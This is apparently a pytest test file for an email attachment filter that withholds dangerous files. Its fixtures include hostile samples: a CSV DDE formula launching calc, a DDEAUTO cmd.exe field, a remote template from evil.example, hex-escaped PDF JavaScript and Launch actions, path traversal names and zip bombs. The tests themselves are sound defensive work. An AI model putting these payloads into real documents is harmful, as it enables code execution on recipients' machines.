"""The attachment policy: which files may be forwarded to the agency's leaders, PDF actions
found by parsing, archives inspected recursively within their limits, and the pieces of text
kept for the confidentiality scan. Files are built by code, bombs a chunk at a time."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import struct
import time
import unicodedata
import zipfile
from dataclasses import dataclass, replace
from typing import Any

import pypdf
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from daemon.config import LimitsConfig
from daemon.understand import attachments, filetype
from daemon.understand.attachments import AttachmentReading
from daemon.understand.parse import parse
from tests.conftest import CORPUS
from tests.hostile import Attack
from tests.hostile.attachments import (
    ATTACKS,
    MZ,
    PDF_ACTIVE,
    PDF_LINK,
    PDF_OPEN_AT_PAGE,
    docx,
    encrypted,
    gzipped_zeros,
    lying,
    nested,
    paragraphs,
    pdf,
    tarred,
    zipped,
    zipped_zeros,
)

LIMITS = LimitsConfig()


def read(name: str, data: bytes, content_type: str = "application/octet-stream",
         limits: LimitsConfig = LIMITS) -> AttachmentReading:
    return attachments.read(name, content_type, data, limits)


def allowed(reading: AttachmentReading) -> bool:
    return reading.withheld is None


# --- names ------------------------------------------------------------------------------------

DANGEROUS = sorted(ext for ext, (_, why) in filetype.KIND_OF_EXTENSION.items() if why)
ALLOWED = sorted(ext for ext, (_, why) in filetype.KIND_OF_EXTENSION.items() if why is None)
STEMS = st.text(alphabet="abcdeđơnhồsơtờtrìnhĐƠN0123456789 _-", min_size=1, max_size=20)
INVISIBLE = st.sampled_from(["\u200b", "\u200c", "\u200d", "\ufeff", "\u2060", "\u00ad"])


def _mixed_case(text: str, flips: list[bool]) -> str:
    return "".join(c.upper() if flip else c for c, flip in zip(text, flips + [False] * 20,
                                                                 strict=False))


@given(stem=STEMS, ext=st.sampled_from(DANGEROUS), disguise=st.sampled_from(["", "pdf", "docx"]),
       flips=st.lists(st.booleans(), max_size=20), tail=st.sampled_from(["", ".", " ", ". .",
                                                                           "\u00a0", " ..  "]),
       invisible=INVISIBLE, at=st.integers(0, 30))
def test_a_dangerous_extension_is_withheld_however_dressed(
        stem: str, ext: str, disguise: str, flips: list[bool], tail: str, invisible: str,
        at: int) -> None:
    """Case, trailing dots and spaces (Windows drops them), a document extension before it,
    zero-width characters anywhere in the extension: the name is still judged by its last
    extension."""
    dressed_ext = _mixed_case(ext, flips)
    dressed_ext = dressed_ext[:at % (len(ext) + 1)] + invisible + dressed_ext[at % (len(ext) + 1):]
    name = f"{stem}{'.' + disguise if disguise else ''}.{dressed_ext}{tail}"

    verdict = filetype.judge_name(name)

    assert verdict.withheld, name


@given(stem=STEMS, ext=st.sampled_from(DANGEROUS + ALLOWED),
       control=st.sampled_from(["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u200f",
                                "\u200e", "\u061c", "\u202a", "\u202b"]),
       at=st.integers(0, 40))
def test_a_name_with_a_bidi_control_is_withheld(stem: str, ext: str, control: str,
                                                at: int) -> None:
    name = f"{stem}.{ext}"
    name = name[:at % (len(name) + 1)] + control + name[at % (len(name) + 1):]

    verdict = filetype.judge_name(name)

    assert verdict.withheld == "tên tệp chứa ký tự đảo chiều chữ (ngụy trang đuôi tệp)"


@given(stem=STEMS, ext=st.sampled_from(ALLOWED), upper=st.booleans())
def test_an_allowed_extension_passes_the_name_check(stem: str, ext: str, upper: bool) -> None:
    name = unicodedata.normalize("NFD", f"{stem}.{ext.upper() if upper else ext}")

    verdict = filetype.judge_name(name)

    assert verdict.withheld is None
    assert verdict.kind == filetype.KIND_OF_EXTENSION[ext][0]


def test_rtlo_disguised_program_is_withheld() -> None:
    reading = read("hoso\u202efdp.exe", MZ, "application/pdf")

    assert reading.withheld == "tên tệp chứa ký tự đảo chiều chữ (ngụy trang đuôi tệp)"


@pytest.mark.parametrize("name", ["../../etc/passwd", "..\\..\\Windows\\win.ini", "/etc/x.txt",
                                  "C:\\x.txt", "c:x.txt"])
def test_a_name_with_a_path_is_withheld(name: str) -> None:
    assert read(name, b"root:x:0:0").withheld == (
        "tên tệp chứa đường dẫn thư mục (có thể ghi đè tệp khác)")


@pytest.mark.parametrize(("name", "why"), [
    ("hoso.pdf.exe", "tệp chương trình chạy được (.exe, giả dạng .pdf)"),
    ("HOSO.PDF.EXE . .", "tệp chương trình chạy được (.exe, giả dạng .pdf)"),
    ("bao-cao.docm", "tài liệu Office có thể chứa macro (.docm)"),
    ("lien-ket.url", "tệp lối tắt (shortcut) trỏ tới chương trình hoặc trang web (.url)"),
    ("dia.img", "ảnh đĩa (chứa tệp không kiểm tra) (.img)"),
    ("cai-dat.msi", "tệp chương trình chạy được (.msi)"),
    ("chay.ps1", "tệp mã lệnh (script) chạy được (.ps1)"),
    ("ho-so.rar", "tệp nén định dạng không kiểm tra được (.rar)"),
    ("ban-ve.dwg", f"{filetype.NOT_ALLOWED} (.dwg)"),
    ("hoso.еxе", f"{filetype.NOT_ALLOWED} (.еxе)"),  # Cyrillic е: not on the allowlist
])
def test_withheld_names_say_why(name: str, why: str) -> None:
    assert read(name, b"x").withheld == why


# --- bytes against the name -------------------------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + bytes(60)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(60)


@pytest.mark.parametrize(("name", "data", "content_type", "why"), [
    ("cong-van.pdf", MZ, "application/pdf", "tệp chương trình Windows"),
    ("cong-van.pdf", zipped([("a.txt", b"a")]), "application/pdf", "nội dung (ZIP) không khớp"),
    ("anh.jpg", pdf(), "image/jpeg", "nội dung (PDF) không khớp"),
    ("don.docx", b"%PDF-1.4 not a docx", "application/octet-stream", "không khớp"),
    ("ghi-chu.txt", b"\x00\x01\x02binary", "text/plain", "không khớp"),
    ("cong-van.pdf", pdf(), "text/plain", "kiểu nội dung khai báo (text/plain) không khớp"),
    ("cong-van.pdf", pdf(), "application/x-msdownload", "kiểu nội dung khai báo là tệp chạy"),
    ("cong-van.pdf", pdf(), "text/html", "kiểu nội dung khai báo là tệp chạy được, trang web"),
    ("cong-van.pdf", pdf() + zipped([("a.exe", MZ)]), "application/pdf",
     "tệp đa định dạng: vừa là PDF vừa là ZIP"),
    ("anh.jpg", JPEG + zipped([("a.class", b"\xca\xfe")]), "image/jpeg",
     "tệp đa định dạng: vừa là JPEG vừa là ZIP"),
    ("anh.png", PNG[:8] + b"<script>alert(1)</script>", "image/png", "vừa là PNG vừa là HTML"),
    ("anh.jpg", JPEG + b"Rar!\x1a\x07\x00" + bytes(20), "image/jpeg", "vừa là JPEG vừa là RAR"),
    ("cong-van.pdf", b"<html>" + pdf(), "application/pdf", "vừa là PDF vừa là HTML"),
    ("tai-lieu", MZ, "application/octet-stream", "tệp chương trình Windows"),
    ("tai-lieu", b"\x00\x00\x01unknown", "application/octet-stream", "không nhận ra định dạng"),
])
def test_bytes_that_contradict_the_name_or_type_are_withheld(
        name: str, data: bytes, content_type: str, why: str) -> None:
    reading = read(name, data, content_type)

    assert reading.withheld is not None and why in reading.withheld, reading.withheld


@pytest.mark.parametrize(("name", "data", "content_type"), [
    ("cong-van.pdf", pdf(), "application/octet-stream"),
    ("cong-van.PDF", pdf(), "application/x-pdf"),
    ("so-lieu.csv", "Họ tên,Số\nAn,1\n".encode(), "application/vnd.ms-excel"),
    ("ghi-chu.txt", "Ghi chú".encode("utf-16"), "text/plain"),
    ("anh.jpg", PNG, "image/jpeg"),  # an image named for another image format: still an image
    ("tai-lieu", pdf(), "application/octet-stream"),  # no extension: judged by its bytes
    ("don.docx", docx("Đơn"), "application/msword"),
    ("chu-ky.p7s", b"\x30\x82\x01\x00" + bytes(40), "application/pkcs7-signature"),
    ("du-lieu.xml", b'<?xml version="1.0"?><hoSo><ten>An</ten></hoSo>', "text/xml"),
])
def test_ordinary_files_are_allowed(name: str, data: bytes, content_type: str) -> None:
    reading = read(name, data, content_type)

    assert allowed(reading), reading.withheld


@pytest.mark.parametrize(("data", "why"), [
    (b"<?xml version='1.0'?><a><script>x</script></a>", "mã chạy được"),
    (b"<a onload='x'/>", "mã chạy được"),
    (b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>', "mã chạy được"),
    (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "mã chạy được"),
    (b'<?xml version="1.0" encoding="UTF-7"?><a/>', "mã hóa không kiểm tra được"),
])
def test_xml_with_script_is_withheld(data: bytes, why: str) -> None:
    reading = read("du-lieu.xml", data, "text/xml")

    assert reading.withheld is not None and why in reading.withheld


def test_a_csv_with_a_dde_formula_is_withheld() -> None:
    reading = read("so-lieu.csv", b"Ten,So\nAn,=cmd|' /C calc'!A0\n", "text/csv")

    assert reading.withheld == "bảng CSV có công thức gọi chương trình (DDE)"


def _ole(*streams: str) -> bytes:
    """An OLE compound file's bytes with directory entries named `streams` at 128-byte slots."""
    out = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    for stream in ("Root Entry", "WordDocument", *streams):
        name = stream.encode("utf-16-le") + b"\x00\x00"
        out += name + bytes(64 - len(name)) + struct.pack("<H", len(name)) + bytes(62)
    return bytes(out)


@pytest.mark.parametrize(("streams", "why"), [
    (("Macros", "VBA", "_VBA_PROJECT"), "tài liệu Office 97-2003 có macro VBA"),
    (("\x01Ole10Native",), "tài liệu Office 97-2003 có tệp đóng gói nhúng (OLE Package)"),
    (("Equation Native",), "Equation Editor"),
    (("EncryptedPackage",), "tài liệu có mật khẩu: không kiểm tra được"),
])
def test_an_old_office_document_with_code_is_withheld(streams: tuple[str, ...],
                                                     why: str) -> None:
    reading = read("cong-van.doc", _ole(*streams))

    assert reading.withheld is not None and why in reading.withheld


def test_an_old_office_document_without_code_is_allowed_and_unread() -> None:
    """The word "Macros" in the document's text (not at a directory entry) is no macro."""
    data = _ole("1Table") + "x Macros y".encode("utf-16-le")

    reading = read("cong-van.doc", data)

    assert allowed(reading)
    assert reading.unread == ("tài liệu Office 97-2003, chưa đọc được chữ",)


# --- PDFs -------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", sorted(PDF_ACTIVE))
def test_pdf_active_content_is_withheld(kind: str) -> None:
    reading = read(f"{kind}.pdf", PDF_ACTIVE[kind], "application/pdf")

    assert reading.withheld is not None and reading.withheld.startswith(
        "PDF có nội dung tự chạy: "), reading.withheld


@pytest.mark.parametrize(("catalog", "page", "extra"), [
    (b"/OpenAction << /S /J#61vaScript /JS (x) >>", b"", []),
    (b"/OpenAction 6 0 R", b"", [b"<< /S /#4A#61v#61Script /#4A#53 (x) >>"]),
    (b"", b"/AA << /O 6 0 R >>", [b"<< /S /L#61unch /F (cmd.exe) >>"]),
    (b"/Names << /EmbeddedF#69les 6 0 R >>", b"", [b"<< /Names [] >>"]),
    (b"/AcroForm << /Fields [] /X#46A 6 0 R >>", b"", [b"<< /Length 0 >>\nstream\n\nendstream"]),
])
@pytest.mark.parametrize("packed", [False, True])
def test_hidden_pdf_actions_are_found_by_parsing(catalog: bytes, page: bytes,
                                                 extra: list[bytes], packed: bool) -> None:
    """Hex-escaped names, and actions inside a compressed object stream: nothing a byte search
    for /JavaScript, /Launch, /EmbeddedFile or /XFA would find."""
    data = pdf(catalog, page, extra, packed=packed)
    assert not any(word in data for word in (b"/JavaScript", b"/Launch", b"/EmbeddedFile",
                                             b"/XFA"))

    reading = read("cong-van.pdf", data, "application/pdf")

    assert reading.withheld is not None and reading.withheld.startswith(
        "PDF có nội dung tự chạy")


@pytest.mark.parametrize("data", [PDF_LINK, PDF_OPEN_AT_PAGE, pdf(packed=True)],
                         ids=["hyperlink", "open-at-page-one", "object-streams"])
def test_ordinary_pdfs_are_allowed(data: bytes) -> None:
    reading = read("cong-van.pdf", data, "application/pdf")

    assert allowed(reading), reading.withheld
    assert reading.text == "Cong van so 1000/UBND-KT"
    assert reading.pieces == (("body", "Cong van so 1000/UBND-KT"),)


def test_a_pdf_rewritten_by_pypdf_keeps_its_javascript_found() -> None:
    """A PDF another program rewrote (pypdf renumbers objects and re-encodes names)."""
    writer = pypdf.PdfWriter()
    writer.append(pypdf.PdfReader(io.BytesIO(pdf(page=b"/AA << /O 6 0 R >>", extra=[
        b"<< /S /JavaScript /JS (app.alert(1)) >>"]))))
    out = io.BytesIO()
    writer.write(out)

    reading = read("cong-van.pdf", out.getvalue(), "application/pdf")

    assert reading.withheld is not None and "JavaScript" in reading.withheld


@pytest.mark.parametrize(("data", "why"), [
    (b"%PDF-1.4\nthis is not a pdf at all", "không kiểm tra được: PDF không đọc được"),
    (pdf()[:200], "không kiểm tra được: PDF không đọc được"),
])
def test_a_pdf_that_cannot_be_parsed_is_withheld(data: bytes, why: str) -> None:
    reading = read("cong-van.pdf", data, "application/pdf")

    assert reading.withheld is not None and reading.withheld.startswith(why)


def test_a_password_protected_pdf_is_withheld() -> None:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt("mat-khau", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)

    reading = read("cong-van.pdf", out.getvalue(), "application/pdf")

    assert reading.withheld == "không kiểm tra được: PDF có mật khẩu"


def test_the_pdf_object_budget_edge() -> None:
    """The smallest `pdf_max_objects` that lets a PDF through, and one less withholds it."""
    data = pdf(extra=[b"<< /A [1 2 3] /B << /C 4 >> >>"] * 20)
    enough = next(n for n in range(1, 500)
                  if allowed(read("a.pdf", data, limits=replace(LIMITS, pdf_max_objects=n))))

    short = read("a.pdf", data, limits=replace(LIMITS, pdf_max_objects=enough - 1))

    assert enough > 20
    assert short.withheld == (f"PDF có hơn {enough - 1} đối tượng (giới hạn pdf_max_objects)")


def test_the_pdf_object_budget_is_shared_by_the_pdfs_of_an_archive() -> None:
    data = pdf(extra=[b"<< /A [1 2 3] >>"] * 20)
    enough = next(n for n in range(1, 500)
                  if allowed(read("a.pdf", data, limits=replace(LIMITS, pdf_max_objects=n))))
    two = zipped([("a.pdf", data), ("b.pdf", data)])

    assert allowed(read("ho-so.zip", two, limits=replace(LIMITS, pdf_max_objects=2 * enough)))
    assert read("ho-so.zip", two, limits=replace(LIMITS, pdf_max_objects=2 * enough - 1)
                ).withheld == f"PDF có hơn {2 * enough - 1} đối tượng (giới hạn pdf_max_objects)"


def test_pdf_pieces_reach_past_the_header_pages() -> None:
    """The header text is page one only; the pieces for the confidentiality scan reach page
    three, and pages past `pdf_scan_pages` are named as unread."""
    three = pdf(pages=3, text=b"BT /F1 12 Tf 72 720 Td (TOI MAT) Tj ET")
    limits = replace(LIMITS, pdf_max_pages=1, pdf_scan_pages=2)

    reading = read("cong-van.pdf", three, "application/pdf", limits)
    whole = read("cong-van.pdf", three, "application/pdf")

    assert reading.text.count("TOI MAT") == 1
    assert reading.pieces[0][1].count("TOI MAT") == 2
    assert reading.unread == ("các trang sau trang 2/3 chưa đọc (limits.pdf_scan_pages)",)
    assert whole.pieces[0][1].count("TOI MAT") == 3 and whole.unread == ()


def test_a_scanned_pdf_is_unread() -> None:
    reading = read("cong-van.pdf", pdf(text=b"q 1 0 0 1 0 0 cm Q"), "application/pdf")

    assert allowed(reading)
    assert reading.unread == ("PDF không có lớp chữ (bản quét)",)


# --- archives ---------------------------------------------------------------------------------

def small(**limits: Any) -> LimitsConfig:
    return replace(LIMITS, **limits)


def test_archive_depth_edge() -> None:
    """`archive_depth` ZIPs inside each other are opened; one more is withheld."""
    at_limit = read("ho-so.zip", nested(3), limits=small(archive_depth=3))
    past = read("ho-so.zip", nested(4), limits=small(archive_depth=3))

    assert allowed(at_limit)
    assert at_limit.pieces == (("ho-so.zip/lop1.zip/lop0.zip/don.txt", "don de nghi"),)
    assert past.withheld == "tệp nén lồng nhau quá 3 lớp (giới hạn archive_depth)"
    assert past.unread == ("phần còn lại chưa đọc (vượt limits.archive_depth)",)


def test_archive_entries_edge() -> None:
    files = [(f"{i}.txt", b"x") for i in range(10)]

    at_limit = read("ho-so.zip", zipped(files), limits=small(archive_entries=10))
    past = read("ho-so.zip", zipped([*files, ("10.txt", b"x")]), limits=small(archive_entries=10))

    assert allowed(at_limit)
    assert past.withheld == "tệp nén có hơn 10 mục (giới hạn archive_entries)"


def test_archive_entries_count_nested_archives_together() -> None:
    """Two inner ZIPs of 4 entries each, plus the 2 inner ZIPs themselves: 10 entries."""
    inner = zipped([(f"{i}.txt", b"x") for i in range(4)])
    outer = zipped([("a.zip", inner), ("b.zip", inner)])

    assert allowed(read("ho-so.zip", outer, limits=small(archive_entries=10)))
    assert not allowed(read("ho-so.zip", outer, limits=small(archive_entries=9)))


def test_archive_bytes_edge() -> None:
    data = zipped([("a.txt", b"a" * 5000), ("b.txt", b"b" * 5000)])

    at_limit = read("ho-so.zip", data, limits=small(archive_bytes=10_000))
    past = read("ho-so.zip", data, limits=small(archive_bytes=9_999))

    assert allowed(at_limit)
    assert past.withheld == "giải nén vượt quá 9999 byte (giới hạn archive_bytes)"


def test_a_bomb_is_stopped_at_the_limit_in_bounded_time() -> None:
    bomb = zipped_zeros("a.txt", 300 << 20)
    started = time.monotonic()

    reading = read("ho-so.zip", bomb, limits=small(archive_bytes=1 << 20))

    assert time.monotonic() - started < 30
    assert reading.withheld == f"giải nén vượt quá {1 << 20} byte (giới hạn archive_bytes)"


def test_a_header_declaring_less_than_the_data_does_not_hide_a_bomb() -> None:
    """The entry stops at the declared size and fails its CRC: withheld as damaged."""
    reading = read("ho-so.zip", lying(zipped_zeros("a.txt", 20 << 20), 100),
                   limits=small(archive_bytes=1 << 20))

    assert reading.withheld == "tệp nén hỏng, không kiểm tra được (zipfile.BadZipFile)"


def test_a_header_declaring_more_than_the_data_costs_only_the_data() -> None:
    """Declared 4 GB, 11 bytes inside: read as 11 bytes (the declared size is never used)."""
    reading = read("ho-so.zip", lying(zipped([("a.txt", b"don de nghi")]), 0xFFFFFFF0),
                   limits=small(archive_bytes=100))

    assert allowed(reading), reading.withheld
    assert reading.pieces == (("ho-so.zip/a.txt", "don de nghi"),)


@given(declared=st.integers(0, 0xFFFFFFFE), actual=st.integers(0, 3000))
@example(declared=2001, actual=2002)  # zipfile checks the CRC at the declared end, read ahead
@settings(max_examples=60, deadline=None)
def test_declared_sizes_never_matter(declared: int, actual: int) -> None:
    """Whatever an entry's header declares, what counts against the limit is what came out."""
    data = lying(zipped([("a.txt", b"a" * actual)]), declared)

    reading = read("ho-so.zip", data, limits=small(archive_bytes=2000))

    if actual > 2000 and declared > 2000:
        assert reading.withheld == "giải nén vượt quá 2000 byte (giới hạn archive_bytes)"
    elif declared < actual:
        assert reading.withheld is not None  # cut at the declared size: fails its CRC
    elif actual <= 2000:
        assert allowed(reading), reading.withheld


@pytest.mark.parametrize("entry", ["../evil.txt", "a/../../evil.txt", "/etc/evil.txt",
                                   "C:/evil.txt", "a\\..\\..\\evil.txt", "\\\\host\\s\\x.txt"])
def test_an_entry_that_escapes_the_folder_is_withheld(entry: str) -> None:
    reading = read("ho-so.zip", zipped([("don.txt", b"x"), (entry, b"x")]))

    assert reading.withheld is not None and reading.withheld.startswith("chứa "), reading


def test_a_traversal_after_a_thousand_entries_is_seen() -> None:
    data = zipped([*((f"{i}.txt", b"x") for i in range(1000)), ("../../evil.txt", b"x")])

    reading = read("ho-so.zip", data, limits=small(archive_entries=2000))

    assert reading.withheld == "chứa ../../evil.txt: tên mục leo ra ngoài thư mục giải nén (..)"


@pytest.mark.parametrize(("data", "why"), [
    (zipped([("ho-so/don.pdf", pdf()), ("ho-so/setup.exe", MZ)]),
     "chứa ho-so/setup.exe: tệp chương trình chạy được (.exe)"),
    (zipped([("a.zip", zipped([("b/hoso.pdf.scr", MZ)]))]),
     "chứa a.zip/b/hoso.pdf.scr: tệp chương trình chạy được (.scr, giả dạng .pdf)"),
    (zipped([("don.pdf", PDF_ACTIVE["javascript-packed"])]),
     "chứa don.pdf: PDF có nội dung tự chạy: OpenAction (tự chạy khi mở tệp), JavaScript"),
    (zipped([("x.7z", b"7z\xbc\xaf\x27\x1c" + bytes(30))]),
     "chứa x.7z: tệp nén định dạng không kiểm tra được (.7z)"),
    (zipped([("don.txt", b"x")], method=zipfile.ZIP_BZIP2),
     "không kiểm tra được: phương thức nén 12 không hỗ trợ"),
    (tarred([("a/../../x.txt", b"x")]), "chứa a/../../x.txt: tên mục leo ra ngoài"),
])
def test_what_is_inside_an_archive_is_judged(data: bytes, why: str) -> None:
    name = "ho-so.tar" if data[257:262] == b"ustar" else "ho-so.zip"

    reading = read(name, data)

    assert reading.withheld is not None and reading.withheld.startswith(why), reading.withheld


def test_an_encrypted_archive_is_withheld_and_unread() -> None:
    reading = read("ho-so.zip", encrypted(zipped([("don.pdf", pdf())])))

    assert reading.withheld == "không kiểm tra được: tệp nén có mật khẩu"
    assert reading.unread == ("tệp nén có mật khẩu",)


@pytest.mark.parametrize(("name", "data"), [
    ("so-lieu.txt.gz", gzip.compress("Số liệu quý III".encode(), mtime=0)),
    ("so-lieu.txt.bz2", bz2.compress("Số liệu quý III".encode())),
    ("so-lieu.txt.xz", lzma.compress("Số liệu quý III".encode())),
    ("so-lieu.txt.gz",
     gzip.compress("Số liệu ".encode(), mtime=0) + gzip.compress("quý III".encode(), mtime=0)),
])
def test_compressed_text_is_read(name: str, data: bytes) -> None:
    reading = read(name, data)

    assert allowed(reading), reading.withheld
    assert reading.pieces == ((f"{name}/so-lieu.txt", "Số liệu quý III"),)


@pytest.mark.parametrize(("name", "data", "why"), [
    ("x.gz", gzip.compress(MZ, mtime=0), "chứa x: tệp chương trình Windows"),
    ("x.tar.gz", gzip.compress(tarred([("a/setup.exe", MZ)]), mtime=0),
     "chứa x.tar/a/setup.exe: tệp chương trình chạy được (.exe)"),
    ("x.txt.gz", gzip.compress(b"abc", mtime=0)[:-6], "tệp nén hỏng, không kiểm tra được"),
    ("x.txt.gz", gzipped_zeros(5 << 20), "giải nén vượt quá"),
])
def test_compressed_files_are_judged(name: str, data: bytes, why: str) -> None:
    reading = read(name, data, limits=small(archive_bytes=1 << 20))

    assert reading.withheld is not None and reading.withheld.startswith(why), reading.withheld


@dataclass(frozen=True)
class Tree:
    """A generated archive: files of some size and ZIPs of trees."""

    size: int = 0
    children: tuple[Tree, ...] = ()

    def build(self) -> bytes:
        return zipped([(f"{i}.zip", c.build()) if c.children or c.size < 0
                       else (f"{i}.txt", b"a" * c.size) for i, c in enumerate(self.children)])

    def measure(self, depth: int = 0) -> tuple[int, int, int]:
        """Entries, bytes decompressed and the depth of the deepest ZIP (0: this one)."""
        entries = bytes_out = deepest = 0
        for child in self.children:
            entries += 1
            if child.children or child.size < 0:
                inner = child.build()
                sub = child.measure(depth + 1)
                entries += sub[0]
                bytes_out += len(inner) + sub[1]
                deepest = max(deepest, sub[2])
            else:
                bytes_out += child.size
        return entries, bytes_out, max(depth, deepest)


trees = st.recursive(st.integers(0, 3000).map(lambda n: Tree(size=n)),
                     lambda inner: st.lists(inner, max_size=4).map(
                         lambda kids: Tree(size=-1, children=tuple(kids))), max_leaves=12)


@given(tree=trees.filter(lambda t: t.size < 0),
       depth=st.integers(1, 4), entries=st.integers(1, 15), volume=st.integers(1000, 20_000))
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_nested_archives_are_withheld_exactly_past_a_limit(tree: Tree, depth: int,
                                                          entries: int, volume: int) -> None:
    count, out, deepest = tree.measure()
    limits = small(archive_depth=depth, archive_entries=entries, archive_bytes=volume)

    reading = read("ho-so.zip", tree.build(), limits=limits)

    if deepest < depth and count <= entries and out <= volume:
        assert allowed(reading), reading.withheld
    else:
        assert reading.withheld is not None
        exceeded = [key for key, over in (("archive_depth", deepest >= depth),
                                          ("archive_entries", count > entries),
                                          ("archive_bytes", out > volume)) if over]
        assert any(f"(giới hạn {key})" in reading.withheld for key in exceeded), (
            exceeded, reading.withheld)


# --- Office documents -------------------------------------------------------------------------

def test_a_real_docx_is_allowed_with_its_headers_and_footers_as_pieces() -> None:
    data = docx("Tờ trình số 12/TTr-SXD", "Kính gửi: Giám đốc Sở",
                parts=[("word/header1.xml", paragraphs("TỐI MẬT")),
                       ("word/footer2.xml", paragraphs("Trang 1")),
                       ("word/media/image1.png", PNG),
                       ("word/embeddings/Microsoft_Excel_Worksheet.xlsx",
                        zipped([("xl/sharedStrings.xml", b"<sst><si><t>Bang</t></si></sst>")])),
                       ("word/_rels/document.xml.rels",
                        b'<Relationships><Relationship Id="r1" Type="http://schemas.openxml'
                        b'formats.org/officeDocument/2006/relationships/hyperlink" Target='
                        b'"https://tayninh.gov.vn" TargetMode="External"/></Relationships>')])

    reading = read("to-trinh.docx", data)

    assert allowed(reading), reading.withheld
    assert reading.text == "Tờ trình số 12/TTr-SXD\nKính gửi: Giám đốc Sở\n"
    assert dict(reading.pieces) == {
        "body": "Tờ trình số 12/TTr-SXD\nKính gửi: Giám đốc Sở\n",
        "header1.xml": "TỐI MẬT\n", "footer2.xml": "Trang 1\n",
        "to-trinh.docx/word/embeddings/Microsoft_Excel_Worksheet.xlsx/sharedStrings.xml":
            "Bang\n"}


@pytest.mark.parametrize(("part", "data", "why"), [
    ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0", "chứa word/vbaProject.bin: macro VBA"),
    ("word/activeX/activeX1.xml", b"<ax/>", "chứa word/activeX/activeX1.xml: điều khiển ActiveX"),
    ("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0",
     "chứa word/embeddings/oleObject1.bin: đối tượng OLE nhúng"),
    ("word/embeddings/package.exe", MZ, "chứa word/embeddings/package.exe: tệp chương trình"),
    ("word/media/x.bmp", MZ, "chứa word/media/x.bmp: tệp chương trình Windows"),
    ("word/_rels/settings.xml.rels",
     b'<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
     b'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm"'
     b' TargetMode="External"/></Relationships>',
     "chứa word/_rels/settings.xml.rels: tải mẫu hoặc đối tượng từ bên ngoài khi mở tệp"),
    ("word/footer1.xml", b'<w:ftr><w:fldSimple w:instr=" DDEAUTO c:\\\\cmd.exe"/></w:ftr>',
     "chứa word/footer1.xml: trường DDE chạy lệnh"),
    ("xl/macrosheets/sheet1.xml", b"<x/>", "chứa xl/macrosheets/sheet1.xml: macro Excel 4.0"),
])
def test_a_docx_with_code_is_withheld(part: str, data: bytes, why: str) -> None:
    reading = read("to-trinh.docx", docx("Tờ trình", parts=[(part, data)]))

    assert reading.withheld is not None and reading.withheld.startswith(why), reading.withheld


def test_a_docx_declaring_macros_is_withheld() -> None:
    types = b'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-' \
            b'word.document.macroEnabled.main+xml"/></Types>'
    data = zipped([("[Content_Types].xml", types), ("word/document.xml", paragraphs("x"))])

    assert read("to-trinh.docx", data).withheld == (
        "chứa [Content_Types].xml: tài liệu khai báo có macro")


def test_an_odt_with_basic_macros_is_withheld() -> None:
    data = zipped([("mimetype", b"application/vnd.oasis.opendocument.text"),
                   ("content.xml", b"<office:document-content><text:p>Van ban</text:p>"
                                   b"</office:document-content>"),
                   ("Basic/Standard/Module1.xml", b"<script:module/>")])

    reading = read("van-ban.odt", data)

    assert reading.withheld == "chứa Basic/Standard/Module1.xml: macro LibreOffice"


def test_a_docx_bomb_is_withheld() -> None:
    data = docx("x", parts=[("word/header1.xml", bytes(5 << 20))])

    reading = read("to-trinh.docx", data, limits=small(archive_bytes=1 << 20))

    assert reading.withheld == f"giải nén vượt quá {1 << 20} byte (giới hạn archive_bytes)"


def test_files_inside_archives_give_labelled_pieces_and_unread() -> None:
    data = zipped([("ho-so/to-trinh.pdf", pdf()),
                   ("ho-so/don.docx", docx("Đơn đề nghị", parts=[
                       ("word/header1.xml", paragraphs("MẬT"))])),
                   ("ho-so/ghi-chu.txt", "Ghi chú".encode()),
                   ("ho-so/anh.jpg", JPEG)])

    reading = read("hoso.zip", data)

    assert allowed(reading), reading.withheld
    assert reading.text == ""
    assert reading.pieces == (
        ("hoso.zip/ho-so/to-trinh.pdf", "Cong van so 1000/UBND-KT"),
        ("hoso.zip/ho-so/don.docx", "Đơn đề nghị\n"),
        ("hoso.zip/ho-so/don.docx/header1.xml", "MẬT\n"),
        ("hoso.zip/ho-so/ghi-chu.txt", "Ghi chú"))
    assert reading.unread == ("hoso.zip/ho-so/anh.jpg: ảnh, có thể là bản quét, chưa đọc",)


def test_pieces_stop_at_scan_chars() -> None:
    data = zipped([("a.txt", b"a" * 60), ("b.txt", b"b" * 60)])

    reading = read("ho-so.zip", data, limits=small(scan_chars=100))

    assert reading.pieces == (("ho-so.zip/a.txt", "a" * 60), ("ho-so.zip/b.txt", "b" * 40))
    assert reading.unread == (
        "ho-so.zip/b.txt: phần chữ sau 100 ký tự chưa đọc (limits.scan_chars)",)


def test_an_image_is_unread() -> None:
    assert read("anh.jpg", JPEG).unread == ("ảnh, có thể là bản quét, chưa đọc",)


# --- every reason, and the shipped corpus -----------------------------------------------------

@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_every_withheld_reason_is_readable(attack: Attack) -> None:
    """Vietnamese, NFC, one line without control characters, short enough for the forward."""
    mail = parse(attack.build(), LIMITS)

    reason = mail.attachments[0].withheld
    assert reason is not None
    assert unicodedata.normalize("NFC", reason) == reason
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in reason)
    assert 10 < len(reason) <= 600
    assert any(c in reason for c in "ăâđêôơưạảấầậểệịọỏốồộớờợụủứừựỳ"), reason


def test_the_corpus_attachments_are_withheld_only_where_labelled() -> None:
    """Every attachment of the labelled corpus is forwarded, except those its label says must
    not be (path traversal names, a PDF with JavaScript, a ZIP bomb)."""
    labels = json.loads((CORPUS / "labels.json").read_text())
    for label in labels:
